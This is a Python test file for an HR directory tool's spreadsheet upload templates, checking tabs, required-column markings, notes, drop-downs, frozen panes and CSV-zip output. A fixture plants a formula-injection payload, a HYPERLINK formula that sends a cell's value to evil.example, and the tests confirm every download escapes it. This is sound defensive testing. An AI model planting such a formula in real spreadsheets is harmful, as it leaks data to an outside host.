"""Upload templates on the sample project (SPEC §9): tabs, marked headers, notes, drop-downs,
frozen header, a full template equal to the repository, and no live formula in any download."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from headcount.config.model import Project
from headcount.jobs.synchronization import SyncRequest, synchronize
from headcount.project import ProjectContext
from headcount.repository import resources
from headcount.upload.templates import Format, Kind, write_template
from webproject import make_project

TABS = ["Identity", "Identity record", "User type", "Organization", "Site", "Title",
        "Subsidiary", "Lists"]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"Paris")'


@pytest.fixture
def sample(tmp_path: Path, db_url: str) -> Any:
    """The sample project synchronized, one site's name a formula planted in the HR file."""
    folder = make_project(tmp_path / "hr", db_url, people=200, synchronized=False)
    sites = folder / "data" / "hr_sites.csv"
    quoted = EVIL.replace('"', '""')
    sites.write_text(sites.read_text("utf-8").replace(
        "PAR,Siège social — Paris,", f'PAR,"{quoted}",'), "utf-8")
    ctx = ProjectContext.open(folder, db_url)
    synchronize(ctx, SyncRequest("HR"))
    yield ctx
    ctx.close()


def template(ctx: ProjectContext, kind: Kind = "empty", fmt: Format = "xlsx",
             command_column: bool = False) -> bytes:
    out = io.BytesIO()
    project: Project = ctx.deployed()[1]
    with ctx.engine.connect() as conn:
        write_template(conn, project, out, kind, fmt, command_column)
    return out.getvalue()


def workbook(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def headers(sheet: Worksheet) -> list[str]:
    return [str(c.value) for c in sheet[1]]


def notes(sheet: Worksheet) -> dict[str, str]:
    return {str(h.value): str(n.value) for h, n in zip(sheet[1], sheet[2], strict=True)}


def validations(sheet: Worksheet) -> dict[str, Any]:
    """The drop-down of each column, by header."""
    names = {c.column_letter: str(c.value) for c in sheet[1]}
    found = {}
    for rule in sheet.data_validations.dataValidation:
        first = str(rule.sqref).split(":")[0]
        found[names[first.rstrip("0123456789")]] = rule
        assert str(rule.sqref).endswith("1048576")
        assert first.endswith("3")
    return found


def test_one_tab_per_entity_type_and_a_hidden_lists_tab(sample: ProjectContext) -> None:
    book = workbook(template(sample))
    assert book.sheetnames == TABS
    assert book["Lists"].sheet_state == "hidden"
    assert all(book[name].sheet_state == "visible" for name in TABS[:-1])
    assert all(book[name].max_row == 2 for name in TABS[:-1])  # empty: headers and notes


def test_required_columns_are_marked_in_words_and_format(sample: ProjectContext) -> None:
    book = workbook(template(sample))
    records = book["Identity record"]
    assert headers(records)[:2] == ["Record identifier *", "Identity *"]
    required = {h for h in headers(records) if h.endswith(" *")}
    assert required == {"Record identifier *", "Identity *", "Contract start date *", "User type *"}
    assert {h for h in headers(book["Organization"]) if h.endswith(" *")} == \
        {"Identifier *", "Manager *"}
    assert [h for h in headers(book["Identity"]) if h.endswith(" *")] == ["Identifier *"]
    marked = records["A1"]
    plain = records.cell(1, headers(records).index("Title") + 1)
    assert marked.font.b
    assert plain.font.b
    assert marked.fill.fgColor.rgb != plain.fill.fgColor.rgb
    assert marked.font.color.rgb != (plain.font.color.rgb if plain.font.color else None)


def test_the_notes_row_says_what_to_write(sample: ProjectContext) -> None:
    book = workbook(template(sample))
    records = notes(book["Identity record"])
    assert all(note.startswith("↳ ") for note in records.values())
    assert records["Contract start date *"] == "↳ date, DD/MM/YYYY or an Excel date"
    assert records["Contract end date"] == \
        "↳ date, DD/MM/YYYY or an Excel date; required for a fixed-term contract"
    assert records["Organization"] == "↳ key of an Organization (list in the tab Lists)"
    assert records["User type *"] == "↳ key of a User type (list in the tab Lists)"
    assert records["Main position"] == "↳ true or false"
    assert "unique" in records["Login"]
    assert "unique" in records["E-mail"]
    assert notes(book["Identity"])["State"] == "↳ one of: pre-hire, active, left"


def test_drop_downs_come_from_the_repository_through_ranges(sample: ProjectContext) -> None:
    book = workbook(template(sample))
    lists = book["Lists"]
    columns = {str(c.value): c.column_letter for c in lists[1]}
    sites = [c.value for c in lists[columns["Site"]][1:] if c.value]
    with sample.engine.connect() as conn:
        assert sites == [k for k, _ in resources.list_resources(conn, "Directory_Site", 1000)]
        people = [k for k, _ in resources.list_resources(conn, "Directory_User", 1000)]
    records = validations(book["Identity record"])
    letter = columns["Identity"]
    assert records["Manager"].formula1 == f"'Lists'!${letter}$2:${letter}${len(people) + 1}"
    assert records["Identity *"].formula1 == records["Manager"].formula1
    assert records["Manager"].errorStyle == "warning"  # a manager added by the same file
    assert records["Main position"].formula1 == '"true,false"'
    state = validations(book["Identity"])["State"]
    letter = columns["Identity · State"]
    assert state.formula1 == f"'Lists'!${letter}$2:${letter}$4"
    assert [c.value for c in lists[letter][1:4]] == ["pre-hire", "active", "left"]
    assert state.errorStyle in (None, "stop")
    assert "Title" not in validations(book["Identity record"])  # free text: no list


def test_headers_are_frozen_with_the_key_and_columns_sized(sample: ProjectContext) -> None:
    book = workbook(template(sample, command_column=True))
    records = book["Identity record"]
    assert records.freeze_panes == "C3"  # headers, notes, Command and the key stay in view
    assert workbook(template(sample))["Identity record"].freeze_panes == "B3"
    assert all((records.column_dimensions[letter].width or 0) >= 10 for letter in "ABCDE")
    assert headers(records)[0] == "Command"
    assert notes(records)["Command"].startswith("↳ one of: Add, Modify, Delete, Merge")
    assert validations(records)["Command"].formula1 == '"Add,Modify,Delete,Merge"'


def test_a_full_template_holds_the_repository(sample: ProjectContext) -> None:
    book = workbook(template(sample, "full"))
    with sample.engine.connect() as conn:
        for tab, entity_type in [("Identity record", "Directory_UserRecord"),
                                 ("Organization", "Directory_Organization"),
                                 ("Identity", "Directory_User")]:
            sheet = book[tab]
            names = [h.removesuffix(" *") for h in headers(sheet)]
            rows = [dict(zip(names, row, strict=True))
                    for row in sheet.iter_rows(min_row=3, values_only=True)]
            stored = resources.list_resources(conn, entity_type, 10_000)
            assert [r[names[0]] for r in rows] == [k for k, _ in stored]
            for row, (key, _) in zip(rows, stored, strict=True):
                view = resources.get_resource(conn, entity_type, key)
                assert row == expected(sample.deployed()[1], entity_type, names, view)


def expected(project: Project, entity_type: str, names: list[str],
             view: resources.ResourceView) -> dict[str, Any]:
    et = next(e for c in project.connectors for e in c.entity_types
              if e.identifier == entity_type)
    out: dict[str, Any] = {}
    for name in names:
        prop = next(p for p in et.properties if (p.display_name or p.identifier) == name)
        if prop.is_navigation:
            value: Any = ";".join(k for _, k, _ in view.links.get(prop.identifier, [])) or None
        else:
            value = view.values.get(prop.identifier)
        if value is not None and prop.type.value == "date":
            value = datetime.combine(date.fromisoformat(value), datetime.min.time())
        elif isinstance(value, str) and value[:1] in "=+-@":
            value = "'" + value
        out[name] = value
    return out


def test_formulas_in_the_repository_come_out_inert(sample: ProjectContext) -> None:
    sheet = workbook(template(sample, "full"))["Site"]
    names = [c.value for c in sheet["B"][2:]]
    assert "'" + EVIL in names
    assert all(cell.data_type == "s" for cell in sheet["B"][2:])
    archive = zipfile.ZipFile(io.BytesIO(template(sample, "full", "csv-zip")))
    rows = list(csv.reader(io.StringIO(archive.read("Site.csv").decode("utf-8-sig"))))
    assert rows[[r[0] for r in rows].index("PAR")][:2] == ["PAR", "'" + EVIL]


def test_the_csv_variant_is_a_zip_of_the_same_tabs(sample: ProjectContext) -> None:
    book = workbook(template(sample, "full"))
    archive = zipfile.ZipFile(io.BytesIO(template(sample, "full", "csv-zip")))
    assert archive.namelist() == [f"{name}.csv" for name in TABS]
    for name in TABS[:-1]:
        rows = list(csv.reader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8-sig"))))
        assert rows[:2] == [headers(book[name]), list(notes(book[name]).values())]
        assert len(rows) == book[name].max_row
    records = list(csv.DictReader(io.StringIO(
        archive.read("Identity record.csv").decode("utf-8-sig"))))[1:]
    sheet = book["Identity record"]
    first = sheet.cell(3, headers(sheet).index("Contract start date *") + 1).value
    assert records[0]["Contract start date *"] == first.strftime("%d/%m/%Y")
    empty = zipfile.ZipFile(io.BytesIO(template(sample, "empty", "csv-zip", True)))
    head = empty.read("Site.csv").decode("utf-8-sig").splitlines()
    assert len(head) == 2
    assert head[0].startswith("Command,Identifier *")


def test_an_empty_repository_gives_lists_of_fixed_values_only(tmp_path: Path,
                                                                db_url: str) -> None:
    ctx = ProjectContext.open(make_project(tmp_path / "hr", db_url, synchronized=False), db_url)
    try:
        book = workbook(template(ctx, "full"))
    finally:
        ctx.close()
    assert all(book[name].max_row == 2 for name in TABS[:-1])
    records = validations(book["Identity record"])
    assert set(records) == {"Main position", "Suspended"}  # no key to offer yet
    assert set(validations(book["Identity"])) == {"State"}
